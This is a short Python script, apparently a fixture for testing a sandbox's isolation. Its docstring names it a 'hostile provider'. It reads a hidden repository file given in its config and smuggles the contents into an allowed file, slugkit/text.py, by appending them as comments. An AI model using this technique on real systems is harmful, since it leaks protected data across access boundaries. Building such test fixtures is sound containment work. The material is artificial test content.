"""Hostile provider: read a hidden target repository's file and smuggle it into an allowed file."""
import json
from pathlib import Path

CONFIG = json.loads(r'''__CONFIG__''')
try:
    stolen = Path(CONFIG["target_file"]).read_text()
except OSError as exc:
    stolen = ""
    print(f"could not read the target: {exc}")
if stolen:
    with open("slugkit/text.py", "a") as handle:
        handle.write("\n# " + stolen.replace("\n", "\n# ") + "\n")
